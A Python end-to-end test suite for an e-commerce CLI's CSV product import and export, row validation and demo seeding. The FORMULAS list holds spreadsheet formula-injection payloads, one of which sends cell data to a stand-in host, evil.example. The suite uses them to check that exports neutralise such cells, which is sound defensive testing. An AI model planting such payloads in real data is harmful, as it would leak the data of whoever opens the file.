"""emporium products and emporium seed, through Typer's runner, on SQLite and PostgreSQL."""

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from entrypoints.cli.main import app
from tests.e2e.test_cli import SECRET

HEADER = "sku,name,description,price,stock\n"
FULL_HEADER = "sku,name,description,price,stock,is_active\n"


@pytest.fixture
def runner(database: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> CliRunner:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("EMPORIUM_DATABASE_URL", database)
    monkeypatch.setenv("EMPORIUM_SECRET_KEY", SECRET)
    return CliRunner()


def emporium(runner: CliRunner, *args: str) -> Result:
    return runner.invoke(app, list(args))


def write(path: Path, text: str | bytes) -> str:
    if isinstance(text, str):
        text = text.encode()
    path.write_bytes(text)
    return str(path)


def exported(runner: CliRunner) -> list[dict]:  # type: ignore[type-arg]
    result = emporium(runner, "products", "export", "--format", "ndjson")
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_an_import_round_trips_through_export(runner: CliRunner, tmp_path: Path) -> None:
    catalog = (
        FULL_HEADER
        + 'MUG-1,"Enamel mug, blue","Holds 350 ml.\nDishwasher safe.",12.50,4,true\r\n'
        + "CUP-2,Cup,,4.00,0,false\r\n"
        + "TEA-3,Théière,Fonte émaillée,30.00,2,true\r\n"
    )
    first = emporium(runner, "products", "import", write(tmp_path / "in.csv", catalog))
    assert first.exit_code == 0, first.output
    assert "3 created, 0 updated, 0 unchanged, 0 rejected" in first.stderr
    result = emporium(runner, "products", "export")
    assert result.exit_code == 0
    assert result.stdout.replace("\r\n", "\n") == catalog.replace("\r\n", "\n")
    again = emporium(runner, "products", "import", write(tmp_path / "out.csv", result.stdout))
    assert again.exit_code == 0 and "0 created, 0 updated, 3 unchanged" in again.stderr
    products = {p["sku"]: p for p in exported(runner)}
    assert products["MUG-1"] | {"id": 0, "created_at": 0, "updated_at": 0} == {
        "id": 0,
        "sku": "MUG-1",
        "name": "Enamel mug, blue",
        "description": "Holds 350 ml.\nDishwasher safe.",
        "price": {"amount": "12.50", "currency": "USD"},
        "stock": 4,
        "is_active": True,
        "version": 1,
        "created_at": 0,
        "updated_at": 0,
    }


def test_an_import_updates_by_sku_and_explains_the_stock(runner: CliRunner, tmp_path: Path) -> None:
    emporium(
        runner, "products", "import", write(tmp_path / "a.csv", HEADER + "MUG-1,Mug,,12.50,4\n")
    )
    result = emporium(
        runner,
        "products",
        "import",
        write(tmp_path / "b.csv", HEADER + "mug-1,Big mug,,13.00,10\n"),
    )
    assert result.exit_code == 0 and "0 created, 1 updated" in result.stderr
    [mug] = exported(runner)
    assert (mug["sku"], mug["name"], mug["price"]["amount"], mug["stock"], mug["version"]) == (
        "MUG-1",
        "Big mug",
        "13.00",
        10,
        2,
    )


BAD_ROWS = [
    ("A-1,Good,,1.00,5", None),
    ("A-1,Again,,1.00,5", "line 3: sku: SKU A-1 is on line 2 already"),
    ("B 2,Bad sku,,1.00,1", "line 4: sku: A SKU is 1 to 64"),
    ("C-3,Too many digits,,1.001,1", "line 5: price: An amount in USD"),
    ("D-4,Negative stock,,1.00,-3", "line 6: stock: Stock is a whole number"),
    ("E-5,Float price,,1e3,1", "line 7: price: "),
    ("F-6,Bytes \xff\xfe,,1.00,1", "line 8: row: bytes that are not UTF-8"),
    ("G-7,Short", "line 9: row: 2 fields, where the header has 5"),
    ("H-8,,,1.00,1", "line 10: name: The name has 1 to 200"),
    ("I-9,Good too,,2.00,0", None),
]


def test_bad_rows_are_reported_by_line_and_only_the_good_ones_land(
    runner: CliRunner, tmp_path: Path
) -> None:
    body = HEADER.encode() + b"".join(
        line.encode("latin-1" if "\xff" in line else "utf-8") + b"\n" for line, _ in BAD_ROWS
    )
    result = emporium(runner, "products", "import", write(tmp_path / "bad.csv", body))
    assert result.exit_code == 1
    for _, message in BAD_ROWS:
        if message:
            assert message in result.stderr
    assert "2 created, 0 updated, 0 unchanged, 8 rejected" in result.stderr
    assert "Traceback" not in result.output
    assert sorted(p["sku"] for p in exported(runner)) == ["A-1", "I-9"]


def test_a_dry_run_writes_nothing(runner: CliRunner, tmp_path: Path) -> None:
    path = write(tmp_path / "in.csv", HEADER + "MUG-1,Mug,,12.50,4\nBAD,Bad,,x,1\n")
    result = emporium(runner, "products", "import", "--dry-run", path)
    assert result.exit_code == 1 and "line 3: price" in result.stderr
    assert "1 created" in result.stderr and "dry run: nothing written" in result.stderr
    assert exported(runner) == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"sku,name,price\nA,B,1.00\n", "missing column(s) description, stock"),
        (HEADER.replace("stock", "stok").encode(), "unknown or repeated column(s) stok"),
        (HEADER.rstrip().encode() + b",sku\n", "unknown or repeated column(s) sku"),
    ],
)
def test_a_file_that_cannot_be_imported_is_refused_whole(
    runner: CliRunner, tmp_path: Path, content: bytes, message: str
) -> None:
    result = emporium(runner, "products", "import", write(tmp_path / "in.csv", content))
    assert result.exit_code == 1 and message in result.stderr
    assert "Traceback" not in result.output and exported(runner) == []


def test_a_byte_order_mark_is_not_part_of_the_header(runner: CliRunner, tmp_path: Path) -> None:
    path = write(tmp_path / "excel.csv", "\ufeff" + HEADER + "MUG-1,Mug,,1.00,1\n")
    assert emporium(runner, "products", "import", path).exit_code == 0
    assert [p["sku"] for p in exported(runner)] == ["MUG-1"]


def test_export_to_a_file_is_whole_or_absent(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    emporium(
        runner, "products", "import", write(tmp_path / "in.csv", HEADER + "MUG-1,Mug,,1.00,1\n")
    )
    result = emporium(runner, "products", "export", "--output", str(tmp_path / "out.csv"))
    assert result.exit_code == 0 and result.stdout == ""
    assert (tmp_path / "out.csv").read_text().splitlines() == [
        FULL_HEADER.strip(),
        "MUG-1,Mug,,1.00,1,true",
    ]
    nowhere = emporium(runner, "products", "export", "--output", str(tmp_path / "no" / "x.csv"))
    assert nowhere.exit_code == 1 and "cannot write" in nowhere.stderr
    # A failed export leaves the last good file as it was, and no partial one.
    monkeypatch.setenv("EMPORIUM_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'new.db'}")
    failed = emporium(runner, "products", "export", "--output", str(tmp_path / "out.csv"))
    assert failed.exit_code == 1 and "emporium db upgrade" in failed.stderr
    assert (tmp_path / "out.csv").read_text().splitlines()[1] == "MUG-1,Mug,,1.00,1,true"
    assert not [p for p in tmp_path.iterdir() if "partial" in p.name]


def test_seeding_the_demo_twice_changes_nothing_the_second_time(runner: CliRunner) -> None:
    first = emporium(runner, "seed", "demo", "--password", "demo-pass-123")
    assert first.exit_code == 0, first.output
    assert "4 accounts created" in first.stderr and "demo-pass-123" in first.stderr
    products = exported(runner)
    assert len(products) == 36 and all(p["sku"].startswith("DEMO-") for p in products)
    second = emporium(runner, "seed", "demo")
    assert second.exit_code == 0 and "0 accounts created, 4 there already" in second.stderr
    assert "password" not in second.stderr and exported(runner) == products
    users = emporium(runner, "users", "list", "--json").stdout.splitlines()
    assert sorted(json.loads(u)["role"] for u in users) == ["admin"] + ["customer"] * 3


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+SUM(1)", "-2+3", "@SUM(1)", "'=quoted"]


def test_cells_a_spreadsheet_would_run_are_exported_inert_and_import_back_exact(
    runner: CliRunner, tmp_path: Path
) -> None:
    # As a person would type them (the last one escaped, as the export writes it).
    cells = [*FORMULAS[:-1], "''=quoted"]
    rows = "".join(f'F-{n},"{cell.replace(chr(34), chr(34) * 2)}",,1.00,1\n'
                   for n, cell in enumerate(cells))  # fmt: skip
    assert emporium(runner, "products", "import", write(tmp_path / "in.csv", HEADER + rows))
    result = emporium(runner, "products", "export")
    cells = [line.split(",", 2)[1] for line in result.stdout.splitlines()[1:]]
    assert all(cell.lstrip('"').startswith("'") for cell in cells), cells
    again = emporium(runner, "products", "import", write(tmp_path / "out.csv", result.stdout))
    assert again.exit_code == 0 and "0 created, 0 updated, 5 unchanged" in again.stderr
    assert [p["name"] for p in exported(runner)] == FORMULAS


def test_archiving_survives_export_and_import(runner: CliRunner, tmp_path: Path) -> None:
    rows = "OLD-1,Old,,1.00,1,false\nNEW-2,New,,1.00,1,TRUE\n"
    emporium(runner, "products", "import", write(tmp_path / "a.csv", FULL_HEADER + rows))
    assert {p["sku"]: p["is_active"] for p in exported(runner)} == {"OLD-1": False, "NEW-2": True}
    # Without the column an existing product keeps its state.
    emporium(
        runner, "products", "import", write(tmp_path / "b.csv", HEADER + "OLD-1,Old,,2.00,1\n")
    )
    assert {p["sku"]: p["is_active"] for p in exported(runner)}["OLD-1"] is False
    bad = emporium(
        runner,
        "products",
        "import",
        write(tmp_path / "c.csv", FULL_HEADER + "X-1,X,,1.00,1,maybe\n"),
    )
    assert bad.exit_code == 1 and "line 2: row: is_active is true or false" in bad.stderr
    back = emporium(
        runner,
        "products",
        "import",
        write(tmp_path / "d.csv", FULL_HEADER + "OLD-1,Old,,2.00,1,true\n"),
    )
    assert back.exit_code == 0 and "1 updated" in back.stderr
    assert all(p["is_active"] for p in exported(runner))


def test_a_description_with_spreadsheet_line_breaks_imports(
    runner: CliRunner, tmp_path: Path
) -> None:
    path = write(tmp_path / "in.csv", HEADER + 'MUG-1,Mug,"Line one\r\nLine two",1.00,1\r\n')
    result = emporium(runner, "products", "import", path)
    assert result.exit_code == 0, result.stderr
    assert exported(runner)[0]["description"] == "Line one\nLine two"


def test_a_header_only_file_says_it_did_nothing(runner: CliRunner, tmp_path: Path) -> None:
    result = emporium(runner, "products", "import", write(tmp_path / "in.csv", HEADER))
    assert result.exit_code == 0
    assert "0 created, 0 updated, 0 unchanged, 0 rejected" in result.stderr


def test_what_is_not_a_csv_file_is_refused_at_once(runner: CliRunner, tmp_path: Path) -> None:
    device = emporium(runner, "products", "import", "/dev/zero")
    assert device.exit_code == 1 and "/dev/zero is not a regular file" in device.stderr
    endless = write(tmp_path / "blob.csv", HEADER + "A" * 200_000)
    result = emporium(runner, "products", "import", endless)
    assert result.exit_code == 1 and "line 2 is over 65536 characters" in result.stderr
    assert "Traceback" not in result.output


def test_the_catalog_is_listed_filtered_and_shown_by_id_or_sku(
    runner: CliRunner, tmp_path: Path
) -> None:
    rows = "sku,name,description,price,stock\nTEA-1,Green tea,,4.50,3\nMUG-1,Mug,,9.99,0\n"
    emporium(runner, "products", "import", write(tmp_path / "p.csv", rows))
    listed = emporium(runner, "products", "list", "--sort", "price", "--json")
    assert listed.exit_code == 0, listed.output
    documents = [json.loads(line) for line in listed.stdout.splitlines()]
    assert [d["sku"] for d in documents] == ["TEA-1", "MUG-1"]
    in_stock = emporium(runner, "products", "list", "--in-stock", "--q", "tea").stdout
    assert [line.split("\t")[1] for line in in_stock.splitlines()[1:]] == ["TEA-1"]

    by_sku = emporium(runner, "products", "show", "mug-1")  # a SKU, whatever its case
    by_id = emporium(runner, "products", "show", documents[1]["id"])
    assert json.loads(by_sku.stdout) == json.loads(by_id.stdout) == documents[1]
    missing = emporium(runner, "products", "show", "NOPE-1")
    assert (missing.exit_code, missing.stderr.strip()) == (1, "error: No product NOPE-1")
    bad = emporium(runner, "products", "list", "--sort", "cheapest")
    assert bad.exit_code == 2  # a usage error, naming the sorts
